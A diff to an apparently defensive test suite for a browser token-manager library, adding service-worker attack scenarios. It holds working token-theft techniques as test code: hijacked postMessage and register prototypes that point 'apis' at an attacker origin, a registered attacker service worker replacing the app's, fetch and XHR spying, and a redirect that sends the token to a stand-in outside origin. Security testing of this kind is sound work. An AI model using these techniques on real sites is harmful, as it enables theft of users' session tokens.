@@ -2,13 +2,16 @@
 // with a worker of their own. What the page's home has not is mounted in the others alone.
 
 import { ACCESS, REFRESH } from '../support/rows.mjs'
+import { SERVICE_WORKER } from './origin.mjs'
 
 const WORKERS = ['worker', 'shared-worker']
+const SERVICE = ['service-worker']
+const HOMES = [...WORKERS, ...SERVICE]
 const SHARED = ['shared-worker']
 const MEMORY = { refreshToken: { json: 'refresh_token' } }
 const API = { apis: ['/api'] }
 
-const alone = (name, seeks, inherent, mount, more) => ({ name, seeks, inherent, homes: WORKERS, mount, ...more })
+const alone = (name, seeks, inherent, mount, more) => ({ name, seeks, inherent, homes: HOMES, mount, ...more })
 
 /** Keeps the ports that the page speaks on, the worker itself, and the words that it began with. Runs in the page, before the package. */
 function tap() {
@@ -123,10 +126,11 @@ export default [
   alone('Another port to the page\'s worker, with options of the attacker\'s', ACCESS, [], async (scene) => {
     const page = await tapped(scene)
     await page.evaluate(async (far) => {
-      const { name, args, worker } = tapped.workers[0]
+      const { name, args, worker } = tapped.workers[0] ?? {}
       const { port1, port2 } = new MessageChannel()
       let port = port1
-      if (name === 'Worker') worker.postMessage('tokenkeep', [port2])
+      if (!name) (await navigator.serviceWorker.ready).active.postMessage({ tokenkeep: 'evil' }, [port2])
+      else if (name === 'Worker') worker.postMessage('tokenkeep', [port2])
       else ({ port } = new SharedWorker(...args))
       port.onmessage = ({ data }) => attacker.keep(data)
       port.postMessage({ ...tapped.hello, kind: 'hello', options: { ...tapped.hello.options, apis: [far] } })
@@ -153,12 +157,14 @@ export default [
     return scene.tab({ options: { ...API, ...MEMORY } }).then(() => false, () => true)
   }, { homes: SHARED, server: { isInMemory: true } }),
   ...['before', 'after'].map((when) => alone('`MessagePort.prototype.postMessage` adds to the options', ACCESS, when === 'before' ? WORKERS : [], async (scene) => {
+    // Where the worker has its options already, the app does not start.
     const page = await scene.tab({ options: API, argument: scene.elsewhere.origin, [when]: (far) => {
       const { postMessage } = MessagePort.prototype
       MessagePort.prototype.postMessage = function (message, ...more) {
         return postMessage.call(this, message.options ? { ...message, options: { ...message.options, apis: [far] } } : message, ...more)
       }
-    } })
+    } }).catch(() => undefined)
+    if (!page) return lured(scene)
     await scene.signIn(page)
     await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
     return lured(scene)
@@ -194,8 +200,85 @@ export default [
       await auth.fetch('/api/me')
     })
     return scene.loot(page)
-  }, { when })),
-  alone('A worker of the attacker\'s own, with the package\'s script, more `apis` and the refresh cookie', ACCESS, WORKERS, async (scene) => {
+  }, { when, homes: WORKERS })),
+  ...['before', 'after'].map((when) => alone('`ServiceWorkerContainer`: `register`, which adds to the options, and `getRegistration`', ACCESS, when === 'before' ? SERVICE : [], async (scene) => {
+    const page = await scene.tab({ options: API, argument: scene.elsewhere.origin, [when]: (far) => {
+      const { register } = ServiceWorkerContainer.prototype
+      ServiceWorkerContainer.prototype.register = function (given, ...more) {
+        const url = new URL(given, location.href)
+        const options = JSON.parse(url.searchParams.get('tokenkeep') ?? '{}')
+        options.apis = [far]
+        url.searchParams.set('tokenkeep', JSON.stringify(options))
+        return register.call(this, url, ...more)
+      }
+      attacker.spy(ServiceWorkerContainer.prototype, 'getRegistration')
+      if (!far) return
+      // The page says what the worker was told.
+      const { postMessage } = MessagePort.prototype
+      MessagePort.prototype.postMessage = function (message, ...more) {
+        return postMessage.call(this, message.options ? { ...message, options: { ...message.options, apis: [far] } } : message, ...more)
+      }
+      Object.defineProperty(ServiceWorker.prototype, 'scriptURL', { get: () => expected })
+      const expected = new URL('/sw.js', location.href)
+    } })
+    await scene.signIn(page)
+    await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
+    return [...lured(scene), await scene.loot(page)]
+  }, { when, homes: SERVICE })),
+  alone('A service worker of the attacker\'s in the place of the app\'s asks the refresh endpoint', ACCESS, SERVICE, async (scene) => {
+    const page = await scene.signedIn({ options: API })
+    await replace(scene, page)
+    return page.evaluate(() => fetch('/auth/refresh', { method: 'POST' }).then((answer) => answer.text()))
+  }, { homes: SERVICE }),
+  alone('A service worker of the attacker\'s in the place of the app\'s, where the refresh token is in memory', REFRESH, [], async (scene) => {
+    const page = await scene.signedIn({ options: { ...API, ...MEMORY } })
+    await replace(scene, page)
+    await page.evaluate(async () => {
+      await auth.refresh().catch(() => {})
+      await auth.login('/auth/login', { body: new URLSearchParams({ username: 'alice' }) }).catch(() => {})
+    })
+    return loot(page)
+  }, { homes: SERVICE, server: { isInMemory: true } }),
+  alone('A new frame, after the service worker was unregistered, fetches the refresh endpoint', ACCESS, SERVICE, async (scene) => {
+    await scene.signedIn({ options: API })
+    const other = await scene.blank()
+    await other.evaluate(async () => (await navigator.serviceWorker.getRegistration()).unregister())
+    await scene.user.context.pages()[0].close()
+    const last = await scene.blank('/bare.html?')
+    await other.close()
+    await last.reload()
+    return last.evaluate(() => fetch('/auth/refresh', { method: 'POST' }).then((answer) => answer.text(), String))
+  }, { homes: SERVICE }),
+  alone('The page\'s own `fetch` and XMLHttpRequest, and all that they show of a call that has the token', ACCESS, [], async (scene) => {
+    const page = await scene.tab({ options: API, before: () => {
+      attacker.spy(globalThis, 'fetch')
+      attacker.spy(XMLHttpRequest.prototype, 'getAllResponseHeaders')
+    } })
+    await scene.story(page)
+    await page.evaluate(async () => {
+      const request = new Request('/api/me')
+      attacker.keep(request, await fetch(request), performance.getEntries().map((entry) => entry.toJSON()))
+      const xhr = new XMLHttpRequest()
+      xhr.open('GET', '/api/me')
+      await new Promise((resolve) => {
+        xhr.onloadend = resolve
+        xhr.send()
+      })
+      attacker.keep(xhr.responseText, xhr.getAllResponseHeaders())
+      for (const name of await caches.keys()) for (const kept of await (await caches.open(name)).keys()) attacker.keep(kept)
+    })
+    return scene.loot(page)
+  }, { homes: SERVICE }),
+  alone('The API redirects a call of the page\'s own `fetch` elsewhere, and the token is in a header of the app\'s own', ACCESS, [], async (scene) => {
+    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, x-token' }
+    scene.server.routes['/api/out'] = () => ({ status: 302, headers: { ...cors, location: `${scene.elsewhere.origin}/landed` } })
+    const page = await scene.signedIn({ options: { ...API, attach: { header: 'X-Token', scheme: '' } } })
+    await page.evaluate(async () => {
+      for (const send of [fetch, auth.fetch]) await send('/api/out').catch(() => {})
+    })
+    return lured(scene)
+  }, { homes: SERVICE }),
+  alone('A worker of the attacker\'s own, with the package\'s script, more `apis` and the refresh cookie', ACCESS, HOMES, async (scene) => {
     await scene.signedIn({ options: API })
     return ownWorker(scene)
   }),
@@ -205,15 +288,38 @@ export default [
   }, { server: { isInMemory: true } }),
 ]
 
+/** Puts a service worker of the attacker's in the place of the app's. */
+async function replace(scene, page) {
+  scene.server.routes['/attacker-sw.js'] = () => ({ type: 'text/javascript', body: SERVICE_WORKER })
+  await page.evaluate(async () => {
+    const { serviceWorker } = navigator
+    const changed = new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve))
+    await serviceWorker.register('/attacker-sw.js')
+    await changed
+  })
+}
+
+/** What that has seen. */
+function loot(page) {
+  return page.evaluate(async () => {
+    const { active } = await navigator.serviceWorker.ready
+    const { port1, port2 } = new MessageChannel()
+    return new Promise((resolve) => {
+      port1.onmessage = ({ data }) => resolve(data)
+      active.postMessage('', [port2])
+    })
+  })
+}
+
 /** A manager of the attacker's, in another tab, whose token goes to him. */
 async function ownWorker(scene, options) {
-  const { module, options: { isolation } = {} } = scene.home
+  const { module, options: home } = scene.home
   const other = await scene.blank()
-  await other.evaluate(async ([module, isolation, far, options]) => {
+  await other.evaluate(async ([module, home, far, options]) => {
     const { createTokenManager } = await import(module)
-    const mine = createTokenManager({ refresh: '/auth/refresh', logout: '/auth/logout', apis: [far], isolation, ...options })
+    const mine = createTokenManager({ refresh: '/auth/refresh', logout: '/auth/logout', apis: [far], ...home, ...options })
     await mine.fetch(`${far}/x`).catch(() => {})
-  }, [module, isolation, scene.elsewhere.origin, options])
+  }, [module, home, scene.elsewhere.origin, options])
   return lured(scene)
 }
 
